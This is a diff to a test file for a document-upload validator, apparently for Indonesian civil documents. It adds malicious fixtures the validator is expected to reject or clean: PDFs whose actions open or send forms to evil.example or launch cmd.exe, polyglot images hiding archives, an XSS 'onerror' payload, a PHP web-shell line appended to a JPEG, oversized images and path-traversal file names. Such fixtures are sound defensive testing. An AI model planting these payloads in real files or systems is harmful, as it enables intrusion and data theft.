@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import gzip
 import io
 import struct
 import zlib
@@ -119,6 +120,29 @@ def _signed_form(document: Pdf) -> None:
     document.Root.OpenAction = Array([document.pages[0].obj, Name.Fit])
 
 
+def _opens_when_closed(document: Pdf) -> None:
+    document.Root.AA = Dictionary(WC=Dictionary(S=Name.URI, URI=String("https://evil.example/")))
+
+
+def _link(document: Pdf) -> None:
+    """A link that somebody has to follow, as office programs make of every address."""
+    action = Dictionary(S=Name.URI, URI=String("https://dukcapil.kemendagri.go.id/"))
+    note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
+    document.pages[0].Annots = Array([document.make_indirect(note)])
+
+
+def _picture_of(width: int, height: int) -> Change:
+    """A picture of so many pixels on the page; its rows are zeros."""
+
+    def change(document: Pdf) -> None:
+        about = {"/Type": Name.XObject, "/Subtype": Name.Image, "/Width": width, "/Height": height}
+        about |= {"/BitsPerComponent": 1, "/ColorSpace": Name.DeviceGray, "/Filter": Name.FlateDecode}
+        drawn = document.make_stream(zlib.compress(bytes(1_000)), about)
+        document.pages[0].Resources.XObject = Dictionary(I1=drawn)
+
+    return change
+
+
 COMPRESSED = {"object_stream_mode": pikepdf.ObjectStreamMode.generate, "compress_streams": True}
 """Objects lie packed in streams, where no search of the bytes finds them."""
 
@@ -208,6 +232,8 @@ GOOD: dict[str, tuple[str, bytes, str]] = {
     "a PDF": ("surat dokter.pdf", pdf(), "surat dokter.pdf"),
     "a packed PDF": ("surat.pdf", pdf(**COMPRESSED), "surat.pdf"),
     "a signed PDF": ("surat bsre.pdf", pdf(change=_signed_form), "surat bsre.pdf"),
+    "a PDF with a link": ("kk.pdf", pdf(change=_link, **COMPRESSED), "kk.pdf"),
+    "a PDF of a large scan": ("ijazah.pdf", pdf(change=_picture_of(7_016, 9_921)), "ijazah.pdf"),
     "a photo": ("IMG_2031.JPEG", photo(), "IMG_2031.jpg"),
     "a progressive photo": ("foto.jpg", photo(progressive=True), "foto.jpg"),
     "a photo of a camera": ("DSC_0001.JPG", camera_photo(), "DSC_0001.jpg"),
@@ -229,6 +255,8 @@ ACTIVE: dict[str, bytes] = {
     "a script of a field": pdf(change=_script_of_a_field, **COMPRESSED),
     "a program that it starts": pdf(change=_opens(S=Name.Launch, F=String("cmd.exe")), **COMPRESSED),
     "a share that it opens": pdf(change=_opens(S=Name.GoToR, F=String(r"\\evil\a"), D=Array([0, Name.Fit]))),
+    "a page that it opens": pdf(change=_opens(S=Name.URI, URI=String("http://evil.example")), **COMPRESSED),
+    "a page that it opens when it is closed": pdf(change=_opens_when_closed, **COMPRESSED),
     "a form that it sends": pdf(change=_opens(S=Name.SubmitForm, F=String("http://evil.example")), **COMPRESSED),
     "a file in it": pdf(change=_carries, **COMPRESSED),
     "a file on a page": pdf(change=_carries_on_page, **COMPRESSED),
@@ -250,6 +278,16 @@ BAD: dict[str, tuple[str, bytes, str]] = {
         zipped({"[Content_Types].xml": b"<Types/>", "word/vbaProject.bin": b"x"}),
         "Simpan sebagai PDF",
     ),
+    "a workbook with macros": (
+        "gaji.pdf",
+        zipped({"[Content_Types].xml": b"<Types/>", "xl/vbaProject.bin": b"x"}),
+        "Simpan sebagai PDF",
+    ),
+    "an open document": (
+        "surat.pdf",
+        zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "Basic/script.xml": b"x"}),
+        "Simpan sebagai PDF",
+    ),
     "an old document with macros": (
         "surat.pdf",
         b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500),
@@ -266,6 +304,18 @@ BAD: dict[str, tuple[str, bytes, str]] = {
     "a PDF that is an archive as well": ("a.pdf", pdf() + zipped({"a.class": b"x"}), "jenis berkas lain"),
     "a photo that is an archive as well": ("a.jpg", photo() + zipped({"a.class": b"x"}), "jenis berkas lain"),
     "a photo that is a PDF as well": ("a.jpg", photo(comment=b"%PDF-1.7"), "jenis berkas lain"),
+    "a photo with a packed archive behind it": (
+        "a.jpg",
+        photo() + b"Rar!\x1a\x07\x01\0" + bytes(99),
+        "jenis berkas lain",
+    ),
+    "a PDF that a browser might take for a page": (
+        "a.pdf",
+        pdf().replace(b"\n", b"\n%<img src=x onerror=alert(1)>\n", 1),
+        "jenis berkas lain",
+    ),
+    "an animation that is an archive as well": ("a.gif", b"GIF89a" + bytes(40) + zipped({"a.class": b"x"}), "JPG"),
+    "a drawing packed": ("a.svg", gzip.compress(SVG), "arsip"),
     "a photo with a page in its comment": ("a.jpg", photo(comment=HTML), "jenis berkas lain"),
     "a photo with a program behind it": ("a.jpg", photo() + b"<?php system($_GET[0]); ?>", "jenis berkas lain"),
     "a picture with a drawing behind it": ("a.png", photo("PNG") + SVG, "jenis berkas lain"),
@@ -277,6 +327,7 @@ BAD: dict[str, tuple[str, bytes, str]] = {
     "a photo of its first bytes": ("a.jpg", b"\xff\xd8\xff\xe0" + bytes(100), "rusak"),
     "a picture of 900 million pixels": ("a.png", png_of(30_000, 30_000), "juta piksel"),
     "a PDF that unpacks to 1.5 GB": ("a.pdf", packed_bomb(), "rusak"),
+    "a PDF with a picture of 900 million pixels": ("a.pdf", pdf(change=_picture_of(30_000, 30_000)), "terlalu rumit"),
     "a photo of 900 layers": ("a.jpg", many_scans(), "terlalu rumit"),
     "six megabytes": ("a.jpg", photo() + bytes(6 * 2**20), "lebih besar dari 5 MB"),
 }
@@ -294,6 +345,10 @@ NAMES: dict[str, str] = {
     "": "dokumen.pdf",
     "....": "dokumen.pdf",
     ".pdf": "pdf.pdf",
+    "kk.pdf.svg": "kk.pdf.svg.pdf",
+    "akta.html": "akta.html.pdf",
+    "javascript:alert(1).pdf": "javascript_alert(1).pdf",
+    "%2e%2e%2fktp.pdf": "_2e_2e_2fktp.pdf",
     "Surat Sakit (2).PDF": "Surat Sakit (2).pdf",
     "surat\u200b\u2066dokter\u2069.pdf": "suratdokter.pdf",
     "x" * 500 + ".pdf": "x" * 100 + ".pdf",
